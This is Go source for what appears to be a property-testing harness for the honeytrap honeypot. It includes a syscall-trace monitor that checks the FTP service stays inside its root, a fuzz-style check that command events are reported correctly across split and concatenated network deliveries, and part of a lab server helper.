			os.WriteFile(filepath.Join(base, "ftp", rootName+"-evil", "secret3.txt"), []byte("SENTINEL-SECRET-3"), 0644)
		}
		o.EmitX("e2e", ob)
		o.End(k)
	}
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	if p.Mode == "direct" {
		o.Begin(0)
		childDirect(o)
		o.End(0)
		return
	}
	childE2E(b, p, o)
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "did not start: " + r.S})
		case "direct":
			var ob directObs
			if r.XInto(&ob) != nil {
				continue
			}
			out = append(out, core.Result{K: 0, Verdict: core.Held, Key: "direct", Witness: ob,
				Sample: map[string]interface{}{"mode": "direct", "path_strings": ob.Paths, "working_directories": ob.Cwds, "calls": ob.Calls, "resolved_inside_root": ob.Resolved, "exhaustive_up_to_components": 5}})
			for c, n := range ob.Classes {
				out = append(out, core.Result{K: 0, Verdict: core.Violated, Sig: "C11|direct|" + c, What: fmt.Sprintf("%s (%d calls)", ob.Examples[c], n), Witness: ob.Examples})
			}
		case "e2e":
			var ob e2eObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: r.K, Verdict: core.Held}
			if ob.Accepted > 0 {
				jb, _ := json.Marshal(ob.Cmds)
				res.Key = "e2e|" + ob.Start + "|" + string(jb) + fmt.Sprint(ob.Passive)
				res.Sample = map[string]interface{}{"mode": "e2e", "start_dir": ob.Start, "commands": ob.Cmds, "passive": ob.Passive, "replies": ob.Replies, "data_bytes": ob.DataN}
			}
			verbs := func() string {
				var v []string
				for _, c := range ob.Cmds {
					v = append(v, c.Verb)
				}
				return strings.Join(v, ",")
			}
			switch {
			case len(ob.SnapDiff) > 0:
				res.Verdict = core.Violated
				res.Sig = "C11|e2e|outside-tree-modified|" + strings.Fields(ob.SnapDiff[0])[0]
				res.What = fmt.Sprintf("files outside the FTP root changed (%s) after commands %s", ob.SnapDiff[0], verbs())
				res.Witness = ob
			case len(ob.Leaks) > 0:
				res.Verdict = core.Violated
				res.Sig = "C11|e2e|outside-content-returned"
				res.What = ob.Leaks[0]
				res.Witness = ob
			case len(ob.BadDirs) > 0:
				res.Verdict = core.Violated
				res.Sig = "C11|e2e|reported-directory-outside"
				res.What = fmt.Sprintf("working directory reported as %q", ob.BadDirs[0])
				res.Witness = ob
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s)", e.Class, e.Frame)})
		}
	}
	var pp params
	b.P(&pp)
	if pp.Trace {
		out = append(out, judgeTrace(recs, exits)...)
	}
	return out
}

var reCall = regexp.MustCompile(`^\d+\s+(?:<\.\.\. )?([a-z0-9_]+)`)
var reQuoted = regexp.MustCompile(`"((?:[^"\\]|\\.)*)"`)

// statClass: calls that only look at a name; they are legitimate on the ancestors of the root (path
// resolution walks them), nowhere else outside it.
var statClass = map[string]bool{"newfstatat": true, "stat": true, "lstat": true, "statx": true, "readlink": true, "readlinkat": true, "access": true, "faccessat": true, "faccessat2": true}

// judgeTrace is the syscall-level monitor: between the begin and end markers of a session every file-system
// call of the process whose path lies in the sandbox (the directory that holds the root, its siblings and the
// sentinels) must name the root or something inside it; the ancestors of the root may be looked at, not more.
func judgeTrace(recs []core.Rec, exits []core.Exit) []core.Result {
	var out []core.Result
	base, root := "", ""
	obs := map[int]e2eObs{}
	for _, r := range recs {
		switch r.T {
		case "paths":
			var m map[string]string
			if r.XInto(&m) == nil {
				base, root = m["base"], m["root"]
			}
		case "e2e":
			var ob e2eObs
			if r.XInto(&ob) == nil {
				obs[r.K] = ob
			}
		}
	}
	if base == "" {
		return out
	}
	calls, sessions := 0, 0
	type hit struct {
		K    int    `json:"k"`
		Call string `json:"call"`
		Path string `json:"path"`
	}
	var hits []hit
	for _, e := range exits {
		f, err := os.Open(filepath.Join(e.WorkDir, "strace.log"))
		if err != nil {
			out = append(out, core.Result{K: 0, Verdict: core.Inconclusive, What: "no system call trace: " + err.Error()})
			continue
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(make([]byte, 1<<20), 16<<20)
		cur := -1
		for sc.Scan() {
			ln := sc.Text()
			if i := strings.Index(ln, markBegin); i >= 0 {
				fmt.Sscanf(ln[i+len(markBegin):], "%d", &cur)
				sessions++
				continue
			}
			if strings.Contains(ln, markEnd) {
				cur = -1
				continue
			}
			if cur < 0 {
				continue
			}
			m := reCall.FindStringSubmatch(ln)
			if m == nil {
				continue
			}
			for _, q := range reQuoted.FindAllStringSubmatch(ln, -1) {
				pth := q[1]
				if !strings.HasPrefix(pth, "/") {
					continue
				}
				cl := filepath.Clean(pth)
				if !inside(base, cl) {
					continue // not in the sandbox: runtime and library files
				}
				calls++
				if inside(root, cl) {
					continue
				}
				if inside(cl, root) && statClass[m[1]] {
					continue // an ancestor of the root, looked at only
				}
				hits = append(hits, hit{cur, m[1], strings.TrimPrefix(cl, base)})
			}
		}
		f.Close()
	}
	res := core.Result{K: 0, Verdict: core.Held, Key: fmt.Sprintf("trace|%d|%d", sessions, calls),
		Sample: map[string]interface{}{"mode": "system call trace", "sessions_delimited": sessions, "file_system_calls_on_sandbox_paths": calls, "calls_outside_root": len(hits)}}
	if sessions == 0 || calls == 0 {
		res.Verdict, res.Key = core.Inconclusive, ""
		res.What = "the trace shows no delimited session or no call on a sandbox path"
	}
	out = append(out, res)
	byCall := map[string][]hit{}
	for _, h := range hits {
		byCall[h.Call] = append(byCall[h.Call], h)
	}
	for call, hs := range byCall {
		h := hs[0]
		var verbs []string
		for _, c := range obs[h.K].Cmds {
			verbs = append(verbs, strings.TrimSpace(c.Verb+" "+c.Arg))
		}
		out = append(out, core.Result{K: h.K, Verdict: core.Violated, Sig: "C11|e2e|syscall-outside-root|" + call,
			What:    fmt.Sprintf("%s(%q) during a session (start %s, commands %v): the path is in the sandbox but not inside the root (%d such calls)", call, "<sandbox>"+h.Path, obs[h.K].Start, verbs, len(hs)),
			Witness: map[string]interface{}{"session": obs[h.K], "calls": hs[:mini(len(hs), 20)]}})
	}
	return out
}

func mini(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func (prop) Summarize(all []core.Result, nrec int) map[string]interface{} {
	calls := 0
	for _, r := range all {
		if ob, ok := r.Witness.(directObs); ok {
			calls += ob.Calls
		}
	}
	return map[string]interface{}{"direct_path_calls": calls}
}
