package c04

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"sort"
	"strings"
	"sync"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C04" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one grammar-generated command sequence of one protocol (ftp, smtp incl. DATA/BDAT, redis, memcached, telnet, http keep-alive, one request per connection for elasticsearch/eos/ethereum/docker/cwmp/ipp, ldap; dns, tftp, snmp, memcached, counterstrike datagrams) delivered through the real dispatcher on a fresh connection per delivery: whole, every single cut point (streams <= 300 bytes, sampled beyond), seeded multi-cuts, 1-byte dribble, each pipelined and lock-step; datagrams sequentially and concurrently. Oracle: per-connection ordered list of command events == the generator's command list, identical across deliveries. Non-trivial = a delivery whose connection produced >=1 command event; distinct by (protocol, sequence, delivery). Datagram protocols other than tftp are also driven with the same sequence six times over from one source address (same-source-history), and every datagram protocol through the real socket listener in bursts. Every tcp protocol is also reachable through a port it shares with a payload-detecting stub listed before it (whole-write deliveries go through it too); half of the telnet sequences are scripts of 25-60 commands. Telnet command lines contain two-, three- and four-byte UTF-8 runes. For http, docker and elasticsearch the recorded request body (the first 1024 bytes) is part of the comparison. One http body in three is 1024..3002 bytes long (mostly chunked) and followed by one more request."
}
func (prop) Assumptions() []string {
	return []string{"events are attributed to a connection by its unique source address", "late events are waited for (up to 2 s) before 'missing' is declared; after three confirmed occurrences of one rule in a child the wait is shortened",
		"bounded payload previews are not compared; command lines are compared without their terminator", "tftp: at most 4 datagrams per source IP (the C10 limiter drops further ones by design)", "SMTP message body lines are not commands: one email event per completed DATA/BDAT LAST"}
}

type params struct {
	Proto int `json:"proto"`
	Seqs  int `json:"seqs"`
	Off   int `json:"off"`
	Cuts  int `json:"cuts"` // max single-cut deliveries per mode (0 = all)
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	seqs, cuts, chunks := 12, 0, 1
	if tier == "thorough" {
		seqs, chunks = 24, 3
	}
	var plan []core.Batch
	for i, p := range protos {
		for c := 0; c < chunks; c++ {
			pp, _ := json.Marshal(params{Proto: i, Seqs: seqs, Off: c * seqs, Cuts: cuts})
			plan = append(plan, core.Batch{Name: p.Name, N: seqs, Params: pp, Timeout: 1500})
		}
	}
	// the datagram protocols once more through the real socket listener on loopback, back-to-back bursts
	pp, _ := json.Marshal(params{Proto: -1, Seqs: seqs * 10})
	plan = append(plan, core.Batch{Name: "udp-socket", N: 1, Params: pp, Timeout: 1500})
	return plan
}

type delivery struct {
	Mode string `json:"mode"` // pipelined | lockstep | sequential | concurrent
	Cuts []int  `json:"cuts,omitempty"`
	Kind string `json:"kind"` // whole | single | multi | dribble
	// Shared: through a port the service shares with a payload-detecting service listed before it (whose
	// detector rejects the stream): the dispatcher inspects the first bytes and hands them over with the rest
	Shared bool `json:"shared_port,omitempty"`
}

func (d delivery) mode() string {
	if d.Shared {
		return d.Mode + "-shared-port"
	}
	return d.Mode
}

const sharedOff = 20000

type mismatch struct {
	D     delivery `json:"delivery"`
	Got   []string `json:"got"`
	Class string   `json:"class"`
	Confirmed bool `json:"confirmed_with_long_wait"`
}

type scnObs struct {
	Proto      string              `json:"proto"`
	StreamLen  int                 `json:"stream_len"`
	Expect     []string            `json:"expect"`
	Deliveries int                 `json:"deliveries"`
	WithEvents int                 `json:"with_events"`
	Classes    map[string]int      `json:"classes"`
	Examples   map[string]mismatch `json:"examples"`
	Variants   int                 `json:"distinct_event_lists"`
	Head       string              `json:"head"`
}

func config(p proto, work string) string {
	extra := strings.ReplaceAll(p.Extra, "$WORK", work)
	return fmt.Sprintf("[listener]\ntype=\"lab\"\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n[service.sut]\ntype=%q\n%s[[port]]\nport=\"%s/%d\"\nservices=[\"sut\"]\n", p.Type, extra, p.Net, p.Port) + sharedCfg(p)
}

func sharedCfg(p proto) string {
	if p.Net != "tcp" {
		return ""
	}
	return fmt.Sprintf("[service.zzdet]\ntype=\"lab-stub-prefix\"\nname=\"zzdet\"\nprefix=\"00ff00ff5a\"\n[[port]]\nport=\"tcp/%d\"\nservices=[\"zzdet\",\"sut\"]\n", p.Port+sharedOff)
}

func classify(got, want []string) string {
	if len(got) < len(want) {
		if isPrefix(got, want) {
			return "missing-tail"
		}
		if isSubseq(got, want) {
			return "missing"
		}
		return "missing-and-different"
	}
	if len(got) > len(want) {
		if isSubseq(want, got) {
			extraEmpty := true
			cnt := map[string]int{}
			for _, w := range want {
				cnt[w]++
			}
			for _, g := range got {
				if cnt[g] > 0 {
					cnt[g]--
				} else if g != "cmd:" {
					extraEmpty = false
				}
			}
			if extraEmpty {
				return "extra-empty-command"
			}
			return "extra"
		}
		return "extra-and-different"
	}
	a, b := append([]string(nil), got...), append([]string(nil), want...)
	sort.Strings(a)
	sort.Strings(b)
	if strings.Join(a, "\x00") == strings.Join(b, "\x00") {
		return "reordered"
	}
	return "field-differs"
}

func isPrefix(a, b []string) bool {
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func isSubseq(a, b []string) bool {
	i := 0
	for _, x := range b {
		if i < len(a) && a[i] == x {
			i++
		}
	}
	return i == len(a)
}

func eq(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// deliveries enumerates the deliveries of a stream of n bytes.
func deliveries(r *core.Rng, n int, maxCuts int, oneReq bool) []delivery {
	var ds []delivery
	modes := []string{"pipelined", "lockstep"}
	if oneReq {
		modes = []string{"pipelined"}
	}
	for _, m := range modes {
		ds = append(ds, delivery{Mode: m, Kind: "whole"})
		ds = append(ds, delivery{Mode: m, Kind: "whole", Shared: true})
		// (whole writes only through the shared port: a service with a payload detector of its own is judged on
		// the first segment, see C08 - cwmp for one wants the SOAP markers in it)
		var cuts []int
		if n <= 300 {
			for c := 1; c < n; c++ {
				cuts = append(cuts, c)
			}
		} else {
			seen := map[int]bool{}
			for len(cuts) < 120 {
				c := r.Range(1, n-1)
				if !seen[c] {
					seen[c] = true
					cuts = append(cuts, c)
				}
			}
			sort.Ints(cuts)
		}
		if maxCuts > 0 && len(cuts) > maxCuts {
			step := len(cuts) / maxCuts
			var sub []int
			for i := 0; i < len(cuts); i += step {
				sub = append(sub, cuts[i])
			}
			cuts = sub
		}
		for _, c := range cuts {
			ds = append(ds, delivery{Mode: m, Kind: "single", Cuts: []int{c}})
		}
		for i := 0; i < 4; i++ {
			ds = append(ds, delivery{Mode: m, Kind: "multi", Cuts: gen.Cuts(r, n, 2)})
		}
		if n <= 200 {
			ds = append(ds, delivery{Mode: m, Kind: "dribble", Cuts: gen.Cuts(r, n, 1)})
		}
	}
	return ds
}

var confirmed = map[string]int{}

// runTCP performs one delivery and returns the canonical event list of its connection.
func runTCP(srv *lab.Server, p proto, chunks [][]byte, d delivery, ip string, port int, expectN int, fastKey string) ([]string, bool) {
	ev0 := lab.Events.Len()
	dport := p.Port
	if d.Shared {
		dport += sharedOff
	}
	cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", dport), lab.TCPAddr(ip, port))
	cl := lab.NewClient(cc)
	if d.Mode == "pipelined" {
		cl.SendCuts(gen.Join(chunks), d.Cuts, 2*time.Second)
		cl.WaitIdle(300 * time.Millisecond)
	} else {
		off := 0
		for _, ch := range chunks {
			var local []int
			for _, c := range d.Cuts {
				if c > off && c < off+len(ch) {
					local = append(local, c-off)
				}
			}
			off += len(ch)
			if cl.SendCuts(ch, local, 2*time.Second) != nil {
				break
			}
			if cl.WaitIdle(300*time.Millisecond) == "closed" {
				break
			}
		}
	}
	filter := func(evs []lab.Captured) []core.EvRec {
		var mine []core.EvRec
		for _, c := range evs {
			if sp, ok := lab.Int(c.Rec, "source-port"); ok && int(sp) == port && lab.Str(c.Rec, "source-ip") == ip {
				mine = append(mine, c.Rec)
			}
		}
		return mine
	}
	collect := func() []core.EvRec { return filter(lab.Events.Since(ev0)) }
	// WaitFor calls the predicate with the store locked: use the slice it passes
	enough := func(evs []lab.Captured) bool { return len(p.Extract(filter(evs))) >= expectN }
	max := 2 * time.Second
	long := true
	if confirmed[fastKey] >= 3 {
		max, long = 60*time.Millisecond, false
	}
	lab.Events.WaitFor(ev0, enough, max)
	cl.Close()
	// the close itself may flush more (e.g. a command without terminator is not expected here); brief settle for extras
	lab.Events.Settle(2*time.Millisecond, 12*time.Millisecond)
	return p.Extract(collect()), long
}

// childUDPSocket: every datagram protocol behind the real socket listener; bursts of datagrams sent
// back-to-back from sockets of their own, so that a datagram arrives while the previous one is still
// being handed over. Each datagram must be reported on its own, with its own contents.
func childUDPSocket(b core.Batch, pp params, o *core.Obs) {
	type up struct {
		p    proto
		port int
	}
	var ups []up
	cfg := "[listener]\ntype=\"socket\"\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n"
	for _, p := range protos {
		if p.Net != "udp" {
			continue
		}
		l, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP("127.0.0.1")})
		if err != nil {
			continue
		}
		port := l.LocalAddr().(*net.UDPAddr).Port
		l.Close()
		name := strings.ReplaceAll(p.Name, "-", "")
		cfg += fmt.Sprintf("[service.%s]\ntype=%q\n[[port]]\nport=\"udp/127.0.0.1:%d\"\nservices=[%q]\n", name, p.Type, port, name)
		ups = append(ups, up{p, port})
	}
	if _, err := lab.StartWith(cfg, false); err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	time.Sleep(300 * time.Millisecond)
	o.Begin(0)
	for ui, u := range ups {
		ob := scnObs{Proto: u.p.Name + "/socket", Classes: map[string]int{}, Examples: map[string]mismatch{}}
		variants := map[string]bool{}
		for k := 0; k < pp.Seqs; k++ {
			r := core.NewRng(b.Seed, "C04/sock/"+u.p.Name, k)
			chunks, expect := u.p.Gen(r)
			per := perChunk(u.p, r, k, b.Seed)
			_ = per
			// regenerate the split with this generator call (perChunk re-derives from another stream): split here
			split := make([][]string, len(chunks))
			j := 0
			for i := range chunks {
				n := 1
				if j+1 < len(expect) && strings.HasPrefix(expect[j+1], "store:") {
					n = 2
				}
				for ; n > 0 && j < len(expect); n-- {
					split[i] = append(split[i], expect[j])
					j++
				}
			}
			ev0 := lab.Events.Len()
			var socks []*net.UDPConn
			ports := make([]int, len(chunks))
			for i := range chunks {
				c, err := net.DialUDP("udp", &net.UDPAddr{IP: net.ParseIP(fmt.Sprintf("127.0.%d.%d", 1+ui, 1+k%250))}, &net.UDPAddr{IP: net.ParseIP("127.0.0.1"), Port: u.port})
				if err != nil {
					continue
				}
				socks = append(socks, c)
				ports[i] = c.LocalAddr().(*net.UDPAddr).Port
			}
			if len(socks) != len(chunks) {
				for _, c := range socks {
					c.Close()
				}
				continue
			}
			ip := socks[0].LocalAddr().(*net.UDPAddr).IP.String()
			for i, dg := range chunks { // back to back
				socks[i].Write(dg)
			}
			lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return len(u.p.Extract(udpFilter(evs, ip, 0))) >= len(expect) }, 2*time.Second)
			lab.Events.Settle(2*time.Millisecond, 12*time.Millisecond)
			all := lab.Events.Since(ev0)
			var got []string
			for i := range chunks {
				got = append(got, u.p.Extract(udpFilter(all, ip, ports[i]))...)
			}
			for _, c := range socks {
				c.Close()
			}
			ob.Deliveries++
			if len(got) > 0 {
				ob.WithEvents++
			}
			variants[strings.Join(got, "\x00")] = true
			if !eq(got, expect) {
				cls := "socket-burst|" + classify(got, expect)
				ob.Classes[cls]++
				if _, ok := ob.Examples[cls]; !ok {
					ob.Examples[cls] = mismatch{D: delivery{Mode: "socket-burst", Kind: "whole"}, Got: got, Class: cls, Confirmed: true}
					ob.Expect = expect
				}
			}
			if ob.Head == "" && len(chunks) > 0 {
				h := chunks[0]
				if len(h) > 40 {
					h = h[:40]
				}
				ob.Head = string(h)
				if ob.Expect == nil {
					ob.Expect = expect
				}
			}
		}
		ob.Variants = len(variants)
		o.EmitX("scn", ob)
	}
	o.End(0)
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var pp params
	b.P(&pp)
	if pp.Proto < 0 {
		childUDPSocket(b, pp, o)
		return
	}
	p := protos[pp.Proto]
	work := lab.WorkDir()
	os.MkdirAll(work+"/ftproot", 0755)
	srv, err := lab.Start(config(p, work))
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	to := b.To
	if to == 0 {
		to = b.N
	}
	connNo := 0
	for k := b.From; k < to; k++ {
		r := core.NewRng(b.Seed, "C04/"+p.Name, pp.Off+k)
		chunks, expect := p.Gen(r)
		stream := gen.Join(chunks)
		ob := scnObs{Proto: p.Name, StreamLen: len(stream), Expect: expect, Classes: map[string]int{}, Examples: map[string]mismatch{}}
		h := stream
		if len(h) > 60 {
			h = h[:60]
		}
		ob.Head = string(h)
		o.Begin(k)
		variants := map[string]bool{}
		note := func(d delivery, got []string, long bool) {
			ob.Deliveries++
			if len(got) > 0 {
				ob.WithEvents++
			}
			variants[strings.Join(got, "\x00")] = true
			if eq(got, expect) {
				return
			}
			cls := d.mode() + "|" + classify(got, expect)
			ob.Classes[cls]++
			if long {
				confirmed[p.Name+"|"+d.mode()]++
			}
			if ex, ok := ob.Examples[cls]; !ok || (!ex.Confirmed && long) {
				ob.Examples[cls] = mismatch{D: d, Got: got, Class: cls, Confirmed: long}
			}
		}
		if p.Net == "tcp" {
			for _, d := range deliveries(r, len(stream), pp.Cuts, p.OneReq) {
				connNo++
				ip := fmt.Sprintf("198.51.%d.%d", 100+(connNo>>16)&63, (connNo>>8)&255)
				port := 1024 + connNo&255 + (connNo>>8&15)*256
				_ = ip
				ip = fmt.Sprintf("198.%d.%d.%d", 51+(connNo>>24)&3, (connNo>>16)&255, (connNo>>8)&255)
				port = 10000 + connNo&255
				got, long := runTCP(srv, p, chunks, d, ip, port, len(expect), p.Name+"|"+d.mode())
				note(d, got, long && !eq(got, expect))
			}
		} else {
			// every datagram is reported on its own: events are attributed to a
			// datagram by its source port; order across datagrams is not claimed
			per := perChunk(p, r, pp.Off+k, b.Seed)
			for _, mode := range []string{"sequential", "concurrent"} {
				for rep := 0; rep < 6; rep++ {
					connNo++
					// a source address of its own for every repetition (the services' anti-amplification limiter counts
					// per source ip, 4 datagrams in 10 minutes)
					ip := fmt.Sprintf("198.%d.%d.%d", 60+(connNo>>16)&63, (connNo>>8)&255, connNo&255)
					ev0 := lab.Events.Len()
					var wg sync.WaitGroup
					for i, dg := range chunks {
						port := 20000 + i
						if mode == "sequential" {
							srv.L.SendUDP(lab.UDPAddr("10.0.0.1", p.Port), lab.UDPAddr(ip, port), dg)
							want := len(per[i])
							lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return len(p.Extract(udpFilter(evs, ip, port))) >= want }, 2*time.Second)
						} else {
							wg.Add(1)
							go func(dg []byte, port int) {
								defer wg.Done()
								srv.L.SendUDP(lab.UDPAddr("10.0.0.1", p.Port), lab.UDPAddr(ip, port), dg)
							}(dg, port)
						}
					}
					wg.Wait()
					lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return len(p.Extract(udpFilter(evs, ip, 0))) >= len(expect) }, 2*time.Second)
					lab.Events.Settle(2*time.Millisecond, 12*time.Millisecond)
					var got []string
					all := lab.Events.Since(ev0)
					for i := range chunks {
						got = append(got, p.Extract(udpFilter(all, ip, 20000+i))...)
					}
					note(delivery{Mode: mode, Kind: "whole"}, got, true)
				}
			}
			if p.Type != "tftp" {
				// a source that keeps sending: the same sequence six times over from one address (24 and more
				// datagrams, well past any per-source reply allowance - replies may stop, reports may not). tftp
				// is left out: it drops a source's datagrams unprocessed once its reply allowance is used up, by
				// design (see the assumptions)
				connNo++
				ip := fmt.Sprintf("198.%d.%d.%d", 60+(connNo>>16)&63, (connNo>>8)&255, connNo&255)
				for round := 0; round < 6; round++ {
					ev0 := lab.Events.Len()
					base := 21000 + round*100
					for i, dg := range chunks {
						srv.L.SendUDP(lab.UDPAddr("10.0.0.1", p.Port), lab.UDPAddr(ip, base+i), dg)
						want := 0
						for _, x := range per[i] {
							if !strings.HasPrefix(x, "store:") {
								want++
							}
						}
						port := base + i
						lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return len(p.Extract(udpFilter(evs, ip, port))) >= want }, 2*time.Second)
					}
					lab.Events.Settle(2*time.Millisecond, 12*time.Millisecond)
					var got []string
					all := lab.Events.Since(ev0)
					for i := range chunks {
						got = append(got, p.Extract(udpFilter(all, ip, base+i))...)
					}
					// past its reply allowance memcached still reports the command but does not execute it: the
					// storage event of a set/add/replace is not a command report and is left out of this comparison
					noStore := func(l []string) []string {
						var o []string
						for _, x := range l {
							if !strings.HasPrefix(x, "store:") {
								o = append(o, x)
							}
						}
						return o
					}
					if g, e := noStore(got), noStore(expect); !eq(g, e) {
						note(delivery{Mode: "same-source-history", Kind: fmt.Sprintf("round-%d", round)}, g, true)
					} else {
						note(delivery{Mode: "same-source-history", Kind: fmt.Sprintf("round-%d", round)}, expect, false)
					}
				}
			}
		}
		ob.Variants = len(variants)
		o.EmitX("scn", ob)
		o.End(k)
	}
}

// perChunk splits the expected list per datagram by regenerating the
// sequence and measuring how the expectation grows chunk by chunk (the
// generators append a datagram and its expectations together).
func perChunk(p proto, _ *core.Rng, idx int, seed int64) [][]string {
	r := core.NewRng(seed, "C04/"+p.Name, idx)
	chunks, expect := p.Gen(r)
	// generators are deterministic and emit expectations in datagram order;
	// recover the split by generating prefixes: cheaper is to use the marker
	// the datagram generators provide: one expectation per datagram, except
	// memcached storage commands which provide two.
	out := make([][]string, len(chunks))
	j := 0
	for i := range chunks {
		n := 1
		if j+1 < len(expect) && strings.HasPrefix(expect[j+1], "store:") {
			n = 2
		}
		for ; n > 0 && j < len(expect); n-- {
			out[i] = append(out[i], expect[j])
			j++
		}
	}
	return out
}

func udpFilter(evs []lab.Captured, ip string, port int) []core.EvRec {
	var mine []core.EvRec
	for _, c := range evs {
		if lab.Str(c.Rec, "source-ip") != ip {
			continue
		}
		if port != 0 {
			if sp, ok := lab.Int(c.Rec, "source-port"); !ok || int(sp) != port {
				continue
			}
		}
		mine = append(mine, c.Rec)
	}
	return mine
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var pp params
	b.P(&pp)
	p := proto{Name: "udp-socket"}
	if pp.Proto >= 0 {
		p = protos[pp.Proto]
	}
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "scn":
			var ob scnObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: r.K, Verdict: core.Held, Witness: ob}
			if pp.Proto < 0 {
				p.Name = ob.Proto
			}
			if ob.WithEvents > 0 {
				res.Key = fmt.Sprintf("%s|seq%d", p.Name, pp.Off+r.K)
				res.Sample = map[string]interface{}{"protocol": p.Name, "stream_bytes": ob.StreamLen, "stream_head": ob.Head, "expected_events": ob.Expect, "deliveries": ob.Deliveries, "deliveries_with_events": ob.WithEvents, "distinct_event_lists_across_deliveries": ob.Variants}
			}
			out = append(out, res)
			var cls []string
			for c := range ob.Classes {
				cls = append(cls, c)
			}
			sort.Strings(cls)
			for _, c := range cls {
				ex := ob.Examples[c]
				out = append(out, core.Result{K: r.K, Verdict: core.Violated, Sig: "C04|" + p.Name + "|" + c,
					What:    fmt.Sprintf("%s: %d of %d deliveries (%s, e.g. cuts %v) recorded %v for commands %v", p.Name, ob.Classes[c], ob.Deliveries, ex.D.Kind, clipInts(ex.D.Cuts), clipS(ex.Got), clipS(ob.Expect)),
					Witness: map[string]interface{}{"stream_head": ob.Head, "expect": ob.Expect, "example": ex, "seq_index": pp.Off + r.K}})
			}
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s) in %s - crash classes belong to C01", e.Class, e.Frame, p.Name)})
		}
	}
	return out
}

func clipInts(a []int) []int {
	if len(a) > 6 {
		return a[:6]
	}
	return a
}
func clipS(a []string) []string {
	if len(a) > 10 {
		return a[:10]
	}
	return a
}

func (prop) Summarize(all []core.Result, nrec int) map[string]interface{} {
	dl, we := 0, 0
	per := map[string]int{}
	for _, r := range all {
		if ob, ok := r.Witness.(scnObs); ok {
			dl += ob.Deliveries
			we += ob.WithEvents
			per[ob.Proto] += ob.Deliveries
		}
	}
	return map[string]interface{}{"deliveries": dl, "deliveries_with_events": we, "deliveries_per_protocol": per}
}
