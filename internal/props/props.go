// Package props links every property check into the executable.
package props

import (
	_ "verif/htlab/internal/props/c01"
	_ "verif/htlab/internal/props/c02"
	_ "verif/htlab/internal/props/c03"
	_ "verif/htlab/internal/props/c04"
	_ "verif/htlab/internal/props/c05"
	_ "verif/htlab/internal/props/c06"
	_ "verif/htlab/internal/props/c07"
	_ "verif/htlab/internal/props/c08"
	_ "verif/htlab/internal/props/c09"
	_ "verif/htlab/internal/props/c10"
	_ "verif/htlab/internal/props/c11"
	_ "verif/htlab/internal/props/c12"
	_ "verif/htlab/internal/props/c13"
	_ "verif/htlab/internal/props/c14"
	_ "verif/htlab/internal/props/c15"
	_ "verif/htlab/internal/props/c16"
	_ "verif/htlab/internal/props/c17"
	_ "verif/htlab/internal/props/c18"
	_ "verif/htlab/internal/props/c19"
	_ "verif/htlab/internal/props/c20"
)
