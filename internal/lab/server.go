package lab

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"runtime/pprof"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/config"
	"github.com/honeytrap/honeytrap/server"
)

// Server is one real server.Honeytrap running in this process.
type Server struct {
	L      *Listener
	Run    int
	cancel context.CancelFunc
	Token  string
	Dir    string
}

var startMu sync.Mutex

// WorkDir is the child's scratch directory.
func WorkDir() string {
	if d := os.Getenv("HTLAB_WORK"); d != "" {
		return d
	}
	d, _ := os.MkdirTemp("", "htlab-")
	os.Setenv("HTLAB_WORK", d)
	return d
}

// Start loads the configuration text into config.Default and runs the real
// server.New(WithDataDir, WithToken) + Run. One data dir per process (storage
// is process-global in honeytrap).
func Start(toml string) (*Server, error) { return StartWith(toml, true) }

// StartWith is Start; with waitLab=false the configuration uses a listener
// other than "lab" (e.g. the real socket listener) and the caller waits for
// readiness itself.
func StartWith(toml string, waitLab bool) (*Server, error) {
	startMu.Lock()
	defer startMu.Unlock()
	run := Events.NextRun()
	config.Default = config.Config{}
	if err := config.Default.Load(bytes.NewBufferString(toml)); err != nil {
		return nil, fmt.Errorf("config: %v", err)
	}
	dir := filepath.Join(WorkDir(), "data")
	os.MkdirAll(dir, 0755)
	dd, err := server.WithDataDir(dir)
	if err != nil {
		return nil, err
	}
	curMu.Lock()
	cur = nil
	curMu.Unlock()
	hc, err := server.New(dd, server.WithToken())
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
